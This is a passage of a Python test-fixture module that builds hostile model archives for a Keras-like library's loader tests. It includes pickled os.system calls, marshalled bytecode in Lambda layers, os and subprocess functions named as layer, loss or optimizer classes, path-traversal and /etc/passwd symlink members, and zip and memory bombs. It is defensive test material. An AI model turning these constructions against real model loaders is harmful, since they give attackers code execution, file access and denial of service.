"""Hostile models: one table of what each file tries, and how it is made; docs and tests read it.

Each case makes a file in a folder. Its class says what it would be if it worked: code execution, file access,
exhaustion (time or memory) or silent misload (a model that is not the one that was saved).
"""

from __future__ import annotations

import base64
import copy
import io
import json
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

import numpy as np
from tests.files.hdf5_support import (
    FLOAT32,
    NewFile,
    chunk_messages,
    link,
    no_links,
    with_dataset,
    with_root,
    written,
)

import flintglass as fg
from flintglass import layers, names
from flintglass.saving.hdf5 import emit
from flintglass.saving.hdf5.read import read_hdf5
from flintglass.saving.hdf5.tree import Dataset, Group
from flintglass.saving.safetensors import write_safetensors

CODE, ACCESS, EXHAUSTION, MISLOAD = "code execution", "file access", "exhaustion", "silent misload"
MARKER = "flintglass_marker"  # what code of a file would leave behind
HUGE = 2**40


@dataclass(frozen=True)
class Hostile:
    """A file, what it tries, and how it is opened: ``model`` by load_model, ``weights`` by load_weights, ``json``."""

    kind: str
    tries: str
    make: Callable[[Path], Path]
    opened: str = "model"


def honest() -> Any:
    """The model that hostile files pretend to be."""
    names.forget_names()
    model = fg.Sequential(
        [fg.Input((3,)), layers.Dense(4, activation="relu"), layers.Dense(4), layers.Dense(1)], name="honest"
    )
    model.compile("adam", "mse", metrics=["mae"])
    return model


@lru_cache(maxsize=1)
def _parts() -> tuple[str, bytes]:
    from tempfile import TemporaryDirectory

    with TemporaryDirectory() as folder:
        path = Path(folder) / "model.keras"
        model = honest()
        model.fit(np.ones((4, 3), "float32"), np.ones((4, 1), "float32"), verbose=0)
        model.save(path)
        with zipfile.ZipFile(path) as archive:
            return archive.read("config.json").decode(), archive.read("model.weights.h5")


def configuration() -> dict[str, Any]:
    found: dict[str, Any] = json.loads(_parts()[0])
    return found


def weights() -> Group:
    """The honest tree, to change."""
    tree = read_hdf5(io.BytesIO(_parts()[1]), "")
    return _whole(tree)


def _whole(group: Group) -> Group:
    members = {
        name: _whole(item) if isinstance(item, Group) else Dataset.of(item.read())
        for name, item in group.members.items()
    }
    return Group(members, dict(group.attributes))


# -- makers of files


def archive(
    config: Any = None,
    numbers: bytes | None = None,
    more: dict[str, bytes] | None = None,
    metadata: str = '{"keras_version": "3.15.0"}',
    method: int = zipfile.ZIP_STORED,
    change: Callable[[bytes], bytes] = lambda data: data,
) -> Callable[[Path], Path]:
    """A .keras file with these members in place of the honest ones."""

    def make(folder: Path) -> Path:
        stream = io.BytesIO()
        text = config if isinstance(config, str) else json.dumps(config if config is not None else configuration())
        with zipfile.ZipFile(stream, "w", method) as found:
            found.writestr("metadata.json", metadata)
            found.writestr("config.json", text)
            found.writestr("model.weights.h5", _parts()[1] if numbers is None else numbers)
            for name, data in (more or {}).items():
                found.writestr(name, data)
        return _file(folder, "model.keras", change(stream.getvalue()))

    return make


def _file(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def data(name: str, make: Callable[[], bytes]) -> Callable[[Path], Path]:
    return lambda folder: _file(folder, name, make())


def with_layer(entry: Any, place: int = 1) -> Callable[[Path], Path]:
    """An archive whose configuration has another layer in this place."""

    def make(folder: Path) -> Path:
        config = configuration()
        config["config"]["layers"][place] = entry
        return archive(config)(folder)

    return make


def with_setting(name: str, value: Any, place: int = 1) -> Callable[[Path], Path]:
    """An archive in which a layer has another setting."""

    def make(folder: Path) -> Path:
        config = configuration()
        config["config"]["layers"][place]["config"][name] = value
        return archive(config)(folder)

    return make


def with_compile(name: str, value: Any) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        config = configuration()
        config["compile_config"][name] = value
        return archive(config)(folder)

    return make


def with_tree(change: Callable[[Group], Any]) -> Callable[[Path], Path]:
    """An archive whose weights were changed."""

    def make(folder: Path) -> Path:
        tree = weights()
        change(tree)
        return archive(numbers=written(tree))(folder)

    return make


def legacy(config: Any, numbers: Group | None = None, version: str = "2.9.0") -> Callable[[Path], Path]:
    """A whole-model .h5 file with this configuration."""

    def make(folder: Path) -> Path:
        about = {"keras_version": version, "backend": "tensorflow"}
        inner = numbers or Group(attributes={"layer_names": np.array([], dtype=object), **about})
        root = Group({"model_weights": inner}, {**about, "model_config": json.dumps(config)})
        return _file(folder, "model.h5", written(root))

    return make


# -- what the files try

BYTECODE = base64.b64encode(marshal.dumps(compile(f"open({MARKER!r}, 'w')", "x", "eval"))).decode()
SHELL = f"touch {MARKER}"


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def thing(module: str, name: str, config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def lambda_layer(what: Any, **config: Any) -> dict[str, Any]:
    return thing("keras.layers", "Lambda", {"name": "l", "function": what, "arguments": {}, **config})


STACK_WITH = '{"class_name": "Sequential", "config": {"layers": [], %s}}'
CODE_OF_A_LAMBDA = {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}


class Pickled:
    """What pickle would run."""

    def __reduce__(self) -> Any:
        import os

        return os.system, (SHELL,)


def pickled_array() -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.array([Pickled()], dtype=object), allow_pickle=True)
    return stream.getvalue()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as found:
        for name, value in members.items():
            found.writestr(name, value)
    return stream.getvalue()


def stack_of(*entries: Any) -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "s", "layers": list(entries)}}


INPUT = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3], "name": "i"}}


def dense(name: str = "d", **config: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 4, **config}}


def symbol(name: str, number: int = 0) -> dict[str, Any]:
    return {"class_name": "__keras_tensor__", "config": {"keras_history": [name, number, 0]}}


def node(*names: str) -> dict[str, Any]:
    inputs = [symbol(name) for name in names]
    return {"args": [inputs if len(inputs) > 1 else inputs[0]], "kwargs": {}}


def graph(entries: list[Any], start: str, end: Any, name: str = "g") -> dict[str, Any]:
    """A functional model of these entries, each (name, entry, the names that it is called on)."""
    listed = [{**entry, "name": key, "inbound_nodes": [node(*on)] if on else []} for key, entry, on in entries]
    config = {"name": name, "trainable": True, "layers": listed, "input_layers": [start, 0, 0], "output_layers": end}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}


def input_entry(name: str = "x", shape: Sequence[int | None] = (None, 3)) -> tuple[str, Any, tuple[str, ...]]:
    return (
        name,
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": list(shape), "name": name}},
        (),
    )


def chained(shape: Sequence[int | None], *links: tuple[str, dict[str, Any], int]) -> dict[str, Any]:
    """A graph of an input and operations, each called on the one before: its class, settings, and on how many of it."""
    entries, last = [input_entry(shape=shape)], "x"
    for number, (class_name, settings, count) in enumerate(links):
        name = f"a{number}"
        entry = thing(f"keras.src.ops.{'core' if class_name == 'Unstack' else 'numpy'}", class_name, settings)
        entries.append((name, {**entry, "config": {**settings, "name": name}}, (last,) * count))
        last = name
    found = graph(entries, "x", [last, 0, 0])
    for listed, (_, _, on) in zip(found["config"]["layers"], entries, strict=True):
        listed["inbound_nodes"] = [{"args": [symbol(one) for one in on], "kwargs": {}}] if on else []
    return found


def doubled(depth: int) -> Any:
    """A model inside a model, each called twice in a row: 2 ** depth calls in a few lines."""
    inner = graph([input_entry(), ("a", thing("keras.layers", "Identity", {"name": "a"}), ("x",))], "x", ["a", 0, 0])
    for level in range(depth):
        inner["config"]["name"] = name = f"m{level}"
        entry = {
            **copy.deepcopy(inner),
            "name": name,
            "inbound_nodes": [node("x"), {"args": [symbol(name)], "kwargs": {}}],
        }
        inner = graph([input_entry()], "x", [name, 2, 0], f"o{level}")
        inner["config"]["layers"].append(entry)
    return inner


def compiled_inside(count: int) -> Any:
    """A stack of models, each of which asks for metrics of its own."""
    inner = json.dumps(
        stack_of(
            {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 3], "name": "i"}},
            thing("keras.layers", "Identity", {"name": "a"}),
        )
    )
    found = stack_of(INPUT, *[{**json.loads(inner), "module": "keras"} for _ in range(count)])
    for number, entry in enumerate(found["config"]["layers"][1:]):
        entry["config"]["name"] = f"m{number}"
        entry["compile_config"] = {"optimizer": "sgd", "loss": "mse", "metrics": [metric("AUC"), metric("AUC")]}
    found["config"]["layers"][0] = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 3], "name": "x"},
    }
    return found


def backwards(count: int) -> Any:
    """Calls listed last to first, so that a reader who looks for the next one each time never ends."""
    entries = [input_entry()]
    for number in range(count, 0, -1):
        before = f"a{number - 1}" if number > 1 else "x"
        entries.append((f"a{number}", thing("keras.layers", "Identity", {"name": f"a{number}"}), (before,)))
    return graph(entries, "x", [f"a{count}", 0, 0])


def circle() -> Any:
    first, second = (thing("keras.layers", "Identity", {"name": name}) for name in "ab")
    return graph([input_entry(), ("a", first, ("b",)), ("b", second, ("a",))], "x", ["b", 0, 0])


def nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def huge_dataset() -> bytes:
    """The honest weights, the first kernel of which declares 2 ** 80 numbers."""
    shape = struct.pack("<QQ", 3, 4)
    found = _parts()[1]
    assert shape in found
    return found.replace(shape, struct.pack("<QQ", HUGE, HUGE))


def external() -> bytes:
    """Weights whose numbers lie in another file."""
    return with_dataset([*emit.dataset_messages((2,), FLOAT32, 48, 8), (7, bytes(16))])


def swap(tree: Group) -> None:
    inner: Any = tree.members["layers"]
    inner.members["dense_1"], inner.members["dense"] = inner.members["dense"], inner.members["dense_1"]


def swap_alike(tree: Group) -> None:
    """Two layers of one shape, whose kernels a shape cannot tell apart."""
    inner: Any = tree.members["layers"]
    one, other = inner.members["dense_1"], inner.members["dense_2"]
    inner.members["dense_1"], inner.members["dense_2"] = other, one


def alike() -> dict[str, Any]:
    config = configuration()
    for place in (1, 2, 3):
        config["config"]["layers"][place]["config"]["units"] = 3
    return config


def alike_swapped(folder: Path) -> Path:
    tree = weights()
    inner: Any = tree.members["layers"]
    for number, name in enumerate(("dense", "dense_1", "dense_2")):
        store = inner.members[name].members["vars"]
        store.members["0"] = Dataset.of(np.full((3, 3), number, "float32"))
        store.members["1"] = Dataset.of(np.zeros(3, "float32"))
    del tree.members["optimizer"]
    swap_alike(tree)
    config = alike()
    return archive(config, written(tree))(folder)


def put(path: str, value: Any) -> Callable[[Group], None]:
    """Put an array at a path of the tree, or take it away (None)."""
    folder, _, name = path.rpartition("/")

    def change(tree: Group) -> None:
        members = tree.group(folder).members
        if value is None:
            del members[name]
        else:
            members[name] = Dataset.of(np.asarray(value))

    return change


def tensors(**arrays: np.ndarray) -> bytes:
    stream = io.BytesIO()
    write_safetensors(stream, arrays, {})
    return stream.getvalue()


def honest_arrays() -> dict[str, np.ndarray]:
    from flintglass.saving.named import arrays_by_name

    return arrays_by_name(honest())


def header(text: Any, body: bytes = b"") -> bytes:
    encoded = text if isinstance(text, bytes) else json.dumps(text).encode()
    return struct.pack("<Q", len(encoded)) + encoded + body


def tensor(begin: int = 0, end: int = 4, shape: Any = (1,), dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def renamed(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda found: found.replace(old, new)


def last(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    """Change the last occurrence alone: the list of members, not what stands in front of the member."""
    return lambda found: new.join(found.rsplit(old, 1))


def late_directory(found: bytes) -> bytes:
    """The end of the archive says that its list of members begins a byte later than it does."""
    place = found.rindex(b"PK\x05\x06") + 16
    said = int.from_bytes(found[place : place + 4], "little") + 1
    return found[:place] + said.to_bytes(4, "little") + found[place + 4 :]


def wrong_byte(found: bytes) -> bytes:
    place = found.index(b"\x89HDF") + 2100
    return found[:place] + bytes([found[place] ^ 1]) + found[place + 1 :]


def symlink(folder: Path) -> Path:
    info = zipfile.ZipInfo("model.weights.h5")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as found:
        found.writestr("metadata.json", "{}")
        found.writestr("config.json", _parts()[0])
        found.writestr(info, "/etc/passwd")
    return _file(folder, "model.keras", stream.getvalue())


def twice(folder: Path) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return archive(more={"config.json": b"{}"})(folder)


def legacy_swapped(folder: Path) -> Path:
    """Weights of a layer listed in another order than the layer has them."""
    tree = Group(attributes={"layer_names": np.array(["d"], dtype=object), "keras_version": "2.9.0"})
    group = tree.group("d")
    group.attributes["weight_names"] = np.array(
        ["d/beta:0", "d/gamma:0", "d/moving_mean:0", "d/moving_variance:0"], object
    )
    for name in ("beta:0", "gamma:0", "moving_mean:0", "moving_variance:0"):
        tree.group("d/d").members[name] = Dataset.of(np.ones(3, "float32"))
    layer = {"class_name": "BatchNormalization", "config": {"name": "d", "axis": [1]}}
    return legacy(stack_of(INPUT, layer), tree)(folder)


def told_twice(name: str) -> Callable[[Path], Path]:
    """An archive of a million members, whose old end tells of three: the record for large archives counts."""

    def make(folder: Path) -> Path:
        found = archive()(folder).read_bytes()
        place = found.rindex(b"PK\x05\x06")
        count, size, start = struct.unpack_from("<HLL", found, place + 10)
        entry = b"PK\x01\x02" + bytes(24) + b"\x01" + bytes(17) + b"x"
        body = found[:place] + entry * 10**6
        counts = struct.pack("<4Q", count + 10**6, count + 10**6, size + len(entry) * 10**6, start)
        record = struct.pack("<4sQ2H2L", b"PK\x06\x06", 44, 45, 45, 0, 0) + counts
        locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(body), 1)
        return _file(folder, name, body + record + locator + found[place:])

    return make


def chunk_bomb(folder: Path) -> Path:
    """A kernel of a gigabyte, zeros, which takes a megabyte in compressed chunks."""
    new, side = NewFile(), 16384
    array = np.broadcast_to(np.zeros((), "float32"), (side, side))
    numbers = with_dataset(chunk_messages(new, array, (side, 256), [1]), new)
    config = stack_of({**INPUT, "config": {"batch_shape": [None, side], "name": "i"}}, dense(units=side))
    return archive({"module": "keras", **config}, numbers)(folder)


def ends_again(folder: Path) -> Path:
    """A graph that lists its input 60,000 times, each to be compared with each of 2,000 calls."""
    names_of = [f"a{number}" for number in range(2000)]
    entries = [input_entry()]
    for name, before in zip(names_of, ["x", *names_of], strict=False):
        entries.append((name, thing("keras.layers", "Identity", {"name": name}), (before,)))
    found = graph(entries, "x", [names_of[-1], 0, 0])
    found["config"]["input_layers"] = [["x", 0, 0]] * 60_000
    return archive(found)(folder)


def drawn(initializer: str) -> bytes:
    """A description of a layer whose first values cost more than their number tells."""
    start = {**INPUT, "config": {"batch_shape": [None, 3000], "name": "i"}}
    wanted = thing("keras.initializers", initializer, {})
    return json.dumps(stack_of(start, dense(units=3000, kernel_initializer=wanted))).encode()


def one_name_twice() -> bytes:
    """A graph with two layers of one name, one of which would be lost."""
    twins = [("a", dense("a", units=units), ("x",)) for units in (2, 4)]
    return json.dumps(graph([input_entry(), *twins], "x", ["a", 0, 0])).encode()


def older_swapped(listed: Sequence[str], groups: Sequence[str]) -> Callable[[Path], Path]:
    """An .h5 file with two layers of one shape: as they are listed, and as their groups are named."""

    def make(folder: Path) -> Path:
        tree = Group(attributes={"layer_names": np.array(listed, dtype=object), "keras_version": "2.9.0"})
        for group, name in zip(groups, ("d", "e"), strict=True):
            tree.group(group).attributes["weight_names"] = np.array([f"{name}/kernel:0", f"{name}/bias:0"], object)
            tree.group(f"{group}/{name}").members["kernel:0"] = Dataset.of(np.ones((3, 3), "float32"))
            tree.group(f"{group}/{name}").members["bias:0"] = Dataset.of(np.ones(3, "float32"))
        return legacy(stack_of(INPUT, dense("d", units=3), dense("e", units=3)), tree)(folder)

    return make


def constants(entry: dict[str, Any], value: Any) -> Callable[[Path], Path]:
    """A graph whose second node is called on a constant alone, so that it would be computed at once."""

    def make(folder: Path) -> Path:
        found = graph([input_entry(), ("a", entry, ("x",))], "x", ["a", 0, 0])
        constant = {"class_name": "__numpy__", "config": {"value": value, "dtype": "float32"}}
        found["config"]["layers"][1]["inbound_nodes"] = [{"args": [constant], "kwargs": {}}]
        return archive(found)(folder)

    return make


def metric(name: str, **settings: Any) -> dict[str, Any]:
    return thing("keras.metrics", name, settings)


def operation(name: str, **settings: Any) -> dict[str, Any]:
    return thing("keras.src.ops.numpy", name, {"name": "a", **settings})


CASES: dict[str, Hostile] = {
    # Known cases.
    "CVE-2024-3660": Hostile(
        CODE, "a Lambda layer whose function is bytecode", with_layer(lambda_layer(CODE_OF_A_LAMBDA))
    ),
    "CVE-2024-3660, the older form": Hostile(
        CODE,
        "a Lambda layer of Keras 2, bytecode in a list",
        legacy(
            stack_of(
                INPUT,
                {"class_name": "Lambda", "config": {"function": [BYTECODE, None, None], "function_type": "lambda"}},
            )
        ),
    ),
    "CVE-2025-1550": Hostile(
        CODE, "a class of the configuration is a function of a module", with_layer(thing("os", "system", SHELL))
    ),
    "CVE-2025-1550, as a function": Hostile(
        CODE,
        "an activation is a function of a module that the file names",
        with_setting("activation", function("os", "system")),
    ),
    "CVE-2025-1550, as an argument": Hostile(
        CODE,
        "a call's argument is an object of a module",
        archive(
            graph(
                [input_entry(), ("a", thing("subprocess", "Popen", {"args": SHELL, "shell": True}), ("x",))],
                "x",
                ["a", 0, 0],
            )
        ),
    ),
    "CVE-2025-8747": Hostile(
        ACCESS,
        "a Lambda layer calls a function of Keras itself, which downloads a file",
        with_layer(
            lambda_layer(
                function("keras.utils", "get_file"), arguments={"origin": "http://127.0.0.1/x", "fname": MARKER}
            )
        ),
    ),
    "CVE-2025-9905": Hostile(
        CODE,
        "an .h5 file with a Lambda layer of bytecode",
        legacy(stack_of(INPUT, lambda_layer(CODE_OF_A_LAMBDA)), version="3.11.0"),
    ),
    "CVE-2025-9906": Hostile(
        CODE,
        "the configuration switches the safe mode off by a function of Keras",
        with_layer(lambda_layer(function("keras.config", "enable_unsafe_deserialization"))),
    ),
    "CVE-2025-12058": Hostile(
        ACCESS,
        "the vocabulary of a StringLookup is the path of a file to read",
        with_layer(thing("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/passwd"})),
    ),
    "CVE-2025-12060": Hostile(ACCESS, "a member that lies outside of the folder", archive(more={f"../{MARKER}": b"x"})),
    "CVE-2025-49655": Hostile(
        CODE,
        "a layer that unpickles a module of another library",
        with_layer(
            thing(
                "keras.layers",
                "TorchModuleWrapper",
                {"name": "t", "module": base64.b64encode(pickle.dumps(Pickled())).decode()},
            )
        ),
    ),
    "CVE-2026-0897": Hostile(
        EXHAUSTION, "a dataset that declares 2 ** 80 numbers", lambda f: archive(numbers=huge_dataset())(f)
    ),
    "CVE-2026-1462": Hostile(
        CODE,
        "a layer that loads a SavedModel from a path of the file's choice",
        with_layer(
            thing("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/model", "call_endpoint": "serve"})
        ),
    ),
    "CVE-2026-1669": Hostile(
        ACCESS, "a dataset whose numbers lie in another file", lambda f: archive(numbers=external())(f)
    ),
    "CVE-2019-6446": Hostile(
        CODE,
        "an array of pickled objects in an .npz file",
        data("w.npz", lambda: zipped({"dense/kernel.npy": pickled_array()})),
        "weights",
    ),
    # Code, by other ways.
    "a loss by module": Hostile(
        CODE, "the loss is a function of a module", with_compile("loss", function("builtins", "exec"))
    ),
    "a metric by module": Hostile(
        CODE, "a metric is a class of a module", with_compile("metrics", [thing("os", "popen", {"cmd": SHELL})])
    ),
    "an optimizer by module": Hostile(
        CODE,
        "the optimizer is a class of a module",
        with_compile("optimizer", thing("subprocess", "Popen", {"args": SHELL})),
    ),
    "an initializer by module": Hostile(
        CODE,
        "an initializer is a class of a module",
        with_setting("kernel_initializer", thing("subprocess", "Popen", {"args": SHELL, "shell": True})),
    ),
    "a regularizer by name": Hostile(
        CODE, "a regularizer is named os.system", with_setting("kernel_regularizer", "os.system")
    ),
    "a registered name": Hostile(
        CODE,
        "a registered name that is a path to a function",
        with_layer({**thing("os", "system", {"command": SHELL}), "registered_name": "os>system"}),
    ),
    "a lambda among the operations": Hostile(
        CODE,
        "an operation of a graph that is code",
        archive(
            graph([input_entry(), ("a", thing("keras.src.ops.numpy", "eval", {"name": "a"}), ("x",))], "x", ["a", 0, 0])
        ),
    ),
    "a Lambda by the name of an operation": Hostile(
        CODE, "a Lambda layer whose function the file chooses", with_layer(lambda_layer("softplus"))
    ),
    "a lambda in JSON": Hostile(
        CODE,
        "a description with bytecode",
        data("m.json", lambda: json.dumps(stack_of(INPUT, lambda_layer(CODE_OF_A_LAMBDA))).encode()),
        "json",
    ),
    "a pickle for an archive": Hostile(
        CODE, "a pickled object with the name of a model", data("model.keras", lambda: pickle.dumps(Pickled()))
    ),
    "a pickle for weights": Hostile(
        CODE, "a pickled object with the name of weights", data("w.npz", lambda: pickle.dumps(Pickled())), "weights"
    ),
    "a dunder": Hostile(
        CODE,
        "a class that is an attribute of every object",
        with_layer(thing("keras.layers", "__class__", {"name": "x"})),
    ),
    "a base class": Hostile(
        CODE, "the class is one that has no call", with_layer(thing("keras.layers", "Model", {"name": "x"}))
    ),
    # Files and folders.
    "an absolute path": Hostile(ACCESS, "a member with an absolute path", archive(more={"/etc/cron.d/x": b"x"})),
    "an asset": Hostile(
        ACCESS, "a member for a layer to unpack", archive(more={"assets/layers/x/vocabulary.txt": b"x"})
    ),
    "a symbolic link": Hostile(ACCESS, "a member that is a symbolic link", symlink),
    "an external link": Hostile(
        ACCESS,
        "a group that is a link to another HDF5 file",
        lambda f: archive(numbers=with_root([no_links(), link("vars", 48, 64)]))(f),
    ),
    "another configuration": Hostile(
        MISLOAD, "the archive tells two names of one member", archive(change=last(b"config.json", b"confih.json"))
    ),
    # Time and memory.
    "giant units": Hostile(EXHAUSTION, "a layer of 10 ** 12 units", with_setting("units", 10**12)),
    "giant units in JSON": Hostile(
        EXHAUSTION,
        "a description of a layer of 10 ** 12 units",
        data("m.json", lambda: json.dumps(stack_of(INPUT, dense(units=10**12))).encode()),
        "json",
    ),
    "giant units in an .h5 file": Hostile(
        EXHAUSTION, "a layer of 10 ** 12 units", legacy(stack_of(INPUT, dense(units=10**12)))
    ),
    "a giant table": Hostile(
        EXHAUSTION,
        "an Embedding of 10 ** 15 rows",
        with_layer(thing("keras.layers", "Embedding", {"name": "e", "input_dim": 10**15, "output_dim": 8})),
    ),
    "a giant input": Hostile(
        EXHAUSTION, "an input of 10 ** 15 columns", with_setting("batch_shape", [None, 10**15], 0)
    ),
    "a giant metric": Hostile(
        EXHAUSTION,
        "a metric with 10 ** 12 thresholds",
        with_compile("metrics", [thing("keras.metrics", "AUC", {"num_thresholds": 10**12})]),
    ),
    "a giant confusion": Hostile(
        EXHAUSTION,
        "a metric with 10 ** 12 cells",
        with_compile("metrics", [thing("keras.metrics", "MeanIoU", {"num_classes": 10**6})]),
    ),
    "many thresholds": Hostile(
        EXHAUSTION,
        "ten metrics of 10 ** 5 thresholds",
        with_compile("metrics", [metric("AUC", num_thresholds=10**5)] * 10),
    ),
    "a list of thresholds": Hostile(
        EXHAUSTION,
        "a metric with 390,000 thresholds",
        with_compile("metrics", [metric("Precision", thresholds=[0.5] * 390_000)]),
    ),
    "many metrics": Hostile(EXHAUSTION, "390,000 metrics by name", with_compile("metrics", ["mae"] * 390_000)),
    "many metrics with a state": Hostile(EXHAUSTION, "3,000 AUC", with_compile("metrics", [metric("AUC")] * 3000)),
    "many losses": Hostile(EXHAUSTION, "100,000 losses", with_compile("loss", ["mse"] * 100_000)),
    "a long name": Hostile(
        EXHAUSTION,
        "an optimizer whose name has 8 million letters",
        with_compile("optimizer", thing("keras.optimizers", "Adam", {"name": "x" * 8_000_000})),
    ),
    "a long name of nothing": Hostile(
        EXHAUSTION,
        "an activation whose name has a million letters, to be compared with all that there are",
        with_setting("activation", "relu" * 250_000),
    ),
    "an operation on a constant": Hostile(
        EXHAUSTION,
        "a billion copies of a constant, made while the graph is read",
        constants(operation("Repeat", repeats=10**9, axis=None), [1.0]),
    ),
    "a broadcast constant": Hostile(
        EXHAUSTION, "a constant broadcast to a billion", constants(operation("BroadcastTo", shape=[10**9]), [1.0])
    ),
    "a layer on a constant": Hostile(
        EXHAUSTION,
        "a RepeatVector of a billion rows, called on a constant",
        constants(thing("keras.layers", "RepeatVector", {"name": "a", "n": 10**9}), [[1.0]]),
    ),
    "an axis taken apart": Hostile(
        EXHAUSTION, "2 ** 31 tensors out of one", archive(chained([2**31], ("Unstack", {"num": None, "axis": 0}, 1)))
    ),
    "an axis in parts": Hostile(
        EXHAUSTION,
        "an axis of 2 ** 31 cut into as many parts",
        archive(chained([2**31], ("Split", {"indices_or_sections": 2**31, "axis": 0}, 1))),
    ),
    "a tensor taken for a list": Hostile(
        EXHAUSTION, "a million rows, joined one by one", archive(chained([10**6, 10**6], ("Concatenate", {}, 1)))
    ),
    "giant counts": Hostile(
        EXHAUSTION,
        "a billion copies of one element, each by its index",
        archive(chained([3], ("Repeat", {"repeats": [10**9, 1, 1], "axis": 0}, 1))),
    ),
    "axes that are counted": Hostile(
        EXHAUSTION,
        "a product over a billion axes",
        archive(chained([4, 4], ("Tensordot", {"axes": 10**9}, 2))),
    ),
    "a shape that squares itself": Hostile(
        EXHAUSTION,
        "an unknown size that is multiplied by itself 30 times: 2 ** 30 factors",
        archive(chained([None, 3], *[("Outer", {}, 2)] * 30)),
    ),
    "an extent that squares itself": Hostile(
        EXHAUSTION,
        "an extent of 2 ** (2 ** 30) elements",
        archive(chained([2**31], *[("Outer", {}, 2)] * 30)),
    ),
    "a product of sums": Hostile(
        EXHAUSTION,
        "40 unknown sizes, one more of each, multiplied: 2 ** 40 terms",
        archive(chained([None] * 40, ("Pad", {"pad_width": 1}, 1), ("Ravel", {}, 1))),
    ),
    "axis after axis": Hostile(
        EXHAUSTION, "3,000 new axes", archive(chained([None, 3], *[("ExpandDims", {"axis": 0}, 1)] * 3000))
    ),
    "a shape of many axes": Hostile(
        EXHAUSTION, "300,000 axes", archive(chained([3], ("Tile", {"repeats": [1] * 300_000}, 1)))
    ),
    "many letters": Hostile(
        EXHAUSTION,
        "a sum of products over 100,000 letters",
        archive(chained([3], ("Einsum", {"subscripts": "".join(map(chr, range(0x10000, 0x10000 + 100_000)))}, 1))),
    ),
    "compiled models inside": Hostile(
        EXHAUSTION, "300 models inside, each with two AUC", lambda f: archive(compiled_inside(300))(f)
    ),
    "models that double": Hostile(EXHAUSTION, "2 ** 40 calls in a few lines", lambda f: archive(doubled(40))(f)),
    "calls from last to first": Hostile(
        EXHAUSTION, "12,000 calls in the worst order", lambda f: archive(backwards(12_000))(f)
    ),
    "calls in a circle": Hostile(EXHAUSTION, "two layers that wait for each other", lambda f: archive(circle())(f)),
    "deep JSON": Hostile(EXHAUSTION, "100,000 objects inside each other", archive(nested(100_000))),
    "JSON of lists": Hostile(EXHAUSTION, "5 million empty lists", archive('{"a":[' + "[]," * 5_000_000 + "1]}")),
    "a giant number": Hostile(EXHAUSTION, "a number of a million digits", archive('{"a":' + "9" * 1_000_000 + "}")),
    "a bomb": Hostile(
        EXHAUSTION,
        "a configuration of a gigabyte in a megabyte",
        archive('{"a":"' + " " * 2**26 + '"}', method=zipfile.ZIP_DEFLATED),
    ),
    "a bomb of weights": Hostile(
        EXHAUSTION, "weights that inflate a thousandfold", archive(numbers=bytes(2**27), method=zipfile.ZIP_DEFLATED)
    ),
    "a long list of members": Hostile(
        EXHAUSTION, "50,000 members", archive(more={f"x{i}": b"" for i in range(50_000)})
    ),
    "a bomb of arrays": Hostile(
        EXHAUSTION,
        "an .npz file that inflates a thousandfold",
        data("w.npz", lambda: zipped({"dense/kernel.npy": bytes(2**27)}, zipfile.ZIP_DEFLATED)),
        "weights",
    ),
    "a giant array": Hostile(
        EXHAUSTION,
        "an array of 10 ** 12 numbers in a header",
        data(
            "w.npz",
            lambda: zipped(
                {
                    "dense/kernel.npy": b"\x93NUMPY\x01\x00v\x00"
                    + b"{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117)
                    + b"\n"
                }
            ),
        ),
        "weights",
    ),
    "a long list that is told short": Hostile(
        EXHAUSTION, "a million members, three of which the archive's end tells of", told_twice("model.keras")
    ),
    "a long list of arrays that is told short": Hostile(
        EXHAUSTION, "the same as an .npz file", told_twice("w.npz"), "weights"
    ),
    "a bomb of chunks": Hostile(EXHAUSTION, "compressed chunks that inflate a thousandfold", chunk_bomb),
    "an input again and again": Hostile(EXHAUSTION, "60,000 times the same input", ends_again),
    "costly first values": Hostile(
        EXHAUSTION, "an orthogonal matrix of 3,000 columns", data("m.json", lambda: drawn("Orthogonal")), "json"
    ),
    "first values that are drawn again": Hostile(
        EXHAUSTION, "9 million truncated normals", data("m.json", lambda: drawn("TruncatedNormal")), "json"
    ),
    "a giant header": Hostile(
        EXHAUSTION,
        "a header of 2 ** 60 bytes",
        data("w.safetensors", lambda: struct.pack("<Q", 2**60) + b"{}"),
        "weights",
    ),
    "a giant tensor": Hostile(
        EXHAUSTION,
        "a tensor of 2 ** 60 bytes",
        data("w.safetensors", lambda: header({"a": tensor(0, 2**60, (2**58,))})),
        "weights",
    ),
    # Another model than the one that was saved.
    "NaN in the configuration": Hostile(
        MISLOAD, "NaN where a number is expected", archive(json.dumps(stack_of(dense(units=float("nan")))))
    ),
    "Infinity in the configuration": Hostile(
        MISLOAD, "Infinity where a number is expected", with_setting("units", float("inf"))
    ),
